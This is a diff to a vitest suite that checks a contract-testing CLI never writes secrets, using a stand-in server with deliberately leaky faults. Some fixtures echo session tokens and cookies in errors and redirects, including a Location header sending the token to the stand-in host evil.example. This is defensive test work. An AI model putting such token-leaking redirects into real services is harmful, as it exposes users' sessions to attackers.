@@ -8,7 +8,7 @@ import {join} from 'node:path';
 import {fileURLToPath} from 'node:url';
 import {describe, expect, test} from 'vitest';
 import {mutants, newerKratos} from '../mutation/faults.js';
-import {type Fault, SECRETS, STAND_IN_IDS, json, startStandIn} from '../mutation/stand-in.js';
+import {type Fault, SECRETS, STAND_IN_IDS, type StandInOptions, json, startStandIn} from '../mutation/stand-in.js';
 
 const root = fileURLToPath(new URL('../..', import.meta.url));
 const tsx = join(root, 'node_modules/.bin/tsx');
@@ -19,8 +19,8 @@ interface Written {
 }
 
 /** Runs `contract-tests/cli.ts live` against a stand-in and returns its exit code and everything it wrote. */
-async function runCli(fault?: Fault, timeoutMs = 5000): Promise<Written> {
-	const standIn = await startStandIn(fault);
+async function runCli(fault?: Fault, timeoutMs = 5000, options: StandInOptions = {}): Promise<Written> {
+	const standIn = await startStandIn(fault, options);
 	const reports = await mkdtemp(join(tmpdir(), 'contract-secrets-'));
 	try {
 		const {config} = standIn;
@@ -55,9 +55,12 @@ async function runCli(fault?: Fault, timeoutMs = 5000): Promise<Written> {
 	}
 }
 
+const escapeHtml = (text: string) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;');
 const sentinels = Object.entries(SECRETS).flatMap(([name, value]) => [
 	[name, value],
 	[`${name} (URL-encoded)`, encodeURIComponent(value)],
+	[`${name} (JSON-escaped)`, JSON.stringify(value).slice(1, -1)],
+	[`${name} (HTML-escaped)`, escapeHtml(value)],
 ]);
 
 function expectNoSecret(bytes: string) {
@@ -76,14 +79,14 @@ const leaky: Record<string, Fault> = {
 		path === '/self-service/settings/flows' && answer.status !== 200
 			? json(400, {error: {code: 400, message: `bad token ${request.headers['x-session-token']} / cookie ${request.headers.cookie}`}})
 			: answer,
-	'breaks the CSRF node, so the violation quotes it': (answer, {path}) => {
-		if (path !== '/self-service/settings/flows' || answer.status !== 200) return answer;
+	'breaks the CSRF node, so the violation quotes it': (answer, {path, request}) => {
+		if (path !== '/self-service/settings/flows' || request.method !== 'GET' || answer.status !== 200) return answer;
 		const flow = JSON.parse(answer.body);
 		delete flow.ui.nodes[0].attributes.disabled;
 		return {...answer, body: JSON.stringify(flow)};
 	},
-	'breaks the TOTP secret node and image, so the violations quote them': (answer, {path}) => {
-		if (path !== '/self-service/settings/flows' || answer.status !== 200) return answer;
+	'breaks the TOTP secret node and image, so the violations quote them': (answer, {path, request}) => {
+		if (path !== '/self-service/settings/flows' || request.method !== 'GET' || answer.status !== 200) return answer;
 		const flow = JSON.parse(answer.body);
 		for (const node of flow.ui.nodes) {
 			if (node.attributes.id === 'totp_secret_key') delete node.attributes.text.id;
@@ -93,6 +96,15 @@ const leaky: Record<string, Fault> = {
 	},
 	'echoes each update body in a 500 JSON error': (answer, {path, body}) =>
 		path === '/self-service/settings' ? json(500, {error: {code: 500, message: `could not save ${JSON.stringify(body)}`}}) : answer,
+	// The session cookie's value alone, without its name, in every form a page may carry it (as once seen).
+	"quotes the session cookie's bare value in a redirect's page": (answer, {path}) =>
+		path === '/self-service/settings/flows'
+			? {
+					status: 302,
+					headers: {location: `https://accounts.example/login?v=${encodeURIComponent(SECRETS.cookieValue)}`, 'content-type': 'text/html'},
+					body: `<a href="https://accounts.example/login?v=${escapeHtml(SECRETS.cookieValue)}">Found</a> ${SECRETS.cookieValue} ${JSON.stringify({v: SECRETS.cookieValue})}`,
+				}
+			: answer,
 	'returns the token in a Set-Cookie and a redirect Location': (answer, {path, request}) =>
 		path === '/self-service/settings/flows'
 			? {status: 303, headers: {location: `https://evil.example/?t=${request.headers['x-session-token']}`, 'set-cookie': `leak=${request.headers['x-session-token']}`}, body: ''}
@@ -109,6 +121,8 @@ describe('no secret is ever written', () => {
 	test.each(Object.entries(leaky))('against a server that %s', async (_, fault) => {
 		const written = await runCli(fault);
 		expect(written.code).toBe(1);
+		// The leaky answers arrived (a stand-in that broke down would prove nothing).
+		expect(written.bytes).not.toContain('(no answer)');
 		expect(written.bytes).toContain('[REDACTED]');
 		expectNoSecret(written.bytes);
 	});
@@ -136,7 +150,7 @@ describe('no secret is ever written', () => {
 	});
 
 	test.each(mutants.map((mutant) => [mutant.name, mutant] as const))('against the %s mutant', async (_, mutant) => {
-		const written = await runCli(mutant.fault, mutant.timeoutMs);
+		const written = await runCli(mutant.fault, mutant.timeoutMs, mutant.standIn);
 		expect(written.code).toBe(1);
 		expectNoSecret(written.bytes);
 	});
